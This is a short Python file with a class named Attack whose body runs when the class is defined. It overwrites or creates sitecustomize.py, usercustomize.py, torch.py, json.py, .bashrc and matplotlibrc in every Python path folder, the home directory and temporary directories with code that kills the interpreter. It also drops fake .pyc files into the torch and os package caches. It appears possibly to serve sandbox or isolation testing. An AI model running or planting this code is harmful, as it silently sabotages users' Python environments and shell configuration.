class Attack:
    import os
    import sys

    _evil = "raise SystemExit('poisoned')\n"
    for _folder in (*sys.path, os.path.expanduser("~"), "/tmp", "/tmp/cache", "/tmp/mpl", "/tmp/torch", "/dev/shm"):
        for _name in ("sitecustomize.py", "usercustomize.py", "torch.py", "json.py", ".bashrc", "matplotlibrc"):
            try:
                os.makedirs(_folder, exist_ok=True)
                with open(os.path.join(_folder, _name), "w") as _file:
                    _file.write(_evil)
            except OSError:
                pass
    import torch

    for _module in (torch, os):
        for _folder in (os.path.dirname(_module.__file__),):
            try:
                with open(os.path.join(_folder, "__pycache__", "evil.pyc"), "wb") as _file:
                    _file.write(b"evil")
            except OSError:
                pass
